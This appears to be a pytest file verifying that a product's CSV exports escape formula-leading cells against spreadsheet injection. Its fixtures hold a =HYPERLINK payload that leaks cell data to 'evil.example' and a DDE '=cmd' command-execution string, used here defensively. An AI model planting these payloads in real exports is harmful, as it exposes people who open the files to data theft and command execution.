"""Every CSV the product writes is safe to open in a spreadsheet: a text cell that starts with = + - @ (or a tab
or a carriage return) comes back with a leading apostrophe, read from the exported file itself.

The exports: the A/B and experiment reports (`report ab|experiment --format csv`, and each table's download on the
A/B page), the audit and KPI reports (`report audit|kpi --format csv`), the audit trail (`audit trail`, and its
download on the Audit trail page)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy import select

from core import audit
from core.accounts.service import command_line_user
from core.cli.main import main
from core.ingest import import_file
from core.oversight import service as oversight
from core.oversight.trail import TrailFilter
from core.reports.ab import export
from core.reports.ab.chatbot import compare_versions
from core.reports.csv_safe import FORMULA_STARTS, to_csv
from core.reports.filters import Filters
from core.store.db import session_scope
from core.store.models import User

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
REVIEWER = "=cmd|' /C calc'!A0"
VERSION_A, VERSION_B = "+bot-a", "@bot-b"
VARIANTS = ("-control", "=treatment")
DAY = "2026-03-05T10:00:00Z"


def risky(cell: str) -> bool:
    """A cell a spreadsheet would run: starts like a formula and is not a plain number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_text_cell_reads_back_as_itself_or_escaped(values):
    back = list(csv.reader(io.StringIO(to_csv(["value"] * len(values), [values]), newline="")))[1]
    for original, cell in zip(values, back, strict=True):
        assert cell == ("'" + original if original.startswith(FORMULA_STARTS) else original)
        assert not cell.startswith(FORMULA_STARTS)


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
@example(values=["'"])  # an apostrophe of its own reads back as it was (a wrong oracle, found by CI)
def test_any_text_in_a_report_table_reads_back_escaped(values):
    frame = pd.DataFrame({"name": values, "rate": [-0.5] * len(values)})
    back = pd.read_csv(io.BytesIO(export.csv_bytes(frame)), dtype=str, keep_default_na=False)
    escaped_or_quoted = [v.startswith((*FORMULA_STARTS, "'")) for v in values]
    assert escaped_or_quoted == [c.startswith("'") for c in back["name"]]
    assert set(back["rate"]) == {"-0.5"}  # numbers stay numbers


@pytest.mark.parametrize(
    "write",
    [
        lambda cell: to_csv(["a", "b"], [[cell, 1]]),
        lambda cell: export.csv_bytes(pd.DataFrame({"a": [cell], "b": [1]})).decode(),
    ],
)
def test_a_carriage_return_inside_a_cell_cannot_start_a_row_with_a_formula(write):
    """Was a bypass: the cell went out unquoted, and a spreadsheet (which ends a row at a lone CR) began a new row
    with the unescaped formula."""
    text = write("note\r=HYPERLINK(1)")
    assert '"note\r=HYPERLINK(1)"' in text
    assert [line.split(",")[0] for line in text.replace('"note\r', "").splitlines()] == ["a", '=HYPERLINK(1)"']


@pytest.fixture
def hostile(engine, tmp_path: Path):
    """Judgments by a reviewer named like a formula, of versions named like formulas, with a HYPERLINK rationale;
    an experiment whose variants are named like formulas; an audit event by that reviewer; an admin to act as."""
    rows = [
        {"prompt_id": f"p{i}", "prompt": f"Q{i}?", "model_a": VERSION_A, "response_a": f"a{i}"}
        | {"model_b": VERSION_B, "response_b": f"b{i}", "choice": "ab"[i % 2], "strength": "clear"}
        | {"reviewer": REVIEWER, "rationale": HYPERLINK, "created_at": DAY}
        for i in range(6)
    ]
    ratings = [
        {"prompt_id": f"p{i}", "prompt": f"Q{i}?", "model": VERSION_A, "response": f"a{i}", "reviewer": REVIEWER}
        | {"helpfulness": 2, "harmlessness": 3, "accuracy": 1, "rationale": HYPERLINK, "created_at": DAY}
        for i in range(6)
    ]
    events = [
        {"experiment": "=exp", "unit_id": f"u{i}", "variant": VARIANTS[i % 2], "at": DAY, "clicked": i % 3 == 0}
        for i in range(40)
    ]
    for kind, content in (("comparisons", rows), ("ratings", ratings), ("experiment-events", events)):
        path = tmp_path / f"{kind}.jsonl"
        path.write_text("".join(json.dumps(r).replace("true", "1").replace("false", "0") + "\n" for r in content))
        import_file(path, kind, engine=engine)
    with session_scope(engine, write=True) as s:
        reviewer = s.execute(select(User.id).where(User.username == REVIEWER)).scalar_one()
        audit.record(s, actor_id=reviewer, action="rating.update", entity="rating", entity_id=1, after={})
        s.add(User(username="admin", role="admin"))  # the commands (and the page below) act as the only admin
    return engine


@pytest.mark.parametrize(
    "command, escaped",
    [
        (["report", "ab", "--a", VERSION_A, "--b", VERSION_B, "--format", "csv", "--out"], "'@bot-b"),
        (["report", "experiment", "=exp", "--format", "csv", "--out"], "'=treatment"),
        (["report", "audit", "--format", "csv", "--from", "2026-03-01", "--to", "2026-03-31"], "=cmd"),
        (["report", "kpi", "--format", "csv", "--from", "2026-03-01", "--to", "2026-03-31"], None),
        (["audit", "trail", "--output"], "'=cmd"),
    ],
    ids=["ab", "experiment", "audit", "kpi", "trail"],
)
def test_every_cli_csv_export_escapes_formula_cells(hostile, tmp_path, capsys, command, escaped):
    """Each export read back from its file (or standard output, for the commands that only print)."""
    out = tmp_path / "export.csv"
    if command[-1].startswith("--o"):
        assert main([*command, str(out)]) == 0
    else:
        assert main(command) == 0
        out.write_text(capsys.readouterr().out, encoding="utf-8", newline="")
    with out.open(encoding="utf-8", newline="") as handle:
        found = cells(handle.read())
    assert len(found) > 4 and not [c for c in found if risky(c)]
    if escaped:
        assert any(escaped in cell for cell in found), found[:40]


def test_the_ab_pages_table_downloads_escape_formula_cells(hostile):
    with session_scope(hostile) as session:
        report = compare_versions(session, Filters(VERSION_A, VERSION_B))
    downloads = {name: export.csv_bytes(frame).decode() for name, frame in export.tables(report).items()}
    found = [cell for text in downloads.values() for cell in cells(text)]
    assert "'+bot-a" in found and not [c for c in found if risky(c)]


def test_the_audit_trail_pages_download_escapes_formula_cells(hostile):
    admin = command_line_user(engine=hostile)
    text, written = oversight.trail_csv(actor=admin, filters=TrailFilter(), limit=1_000, engine=hostile)
    found = cells(text)
    assert written > 0 and "'" + REVIEWER in found and not [c for c in found if risky(c)]
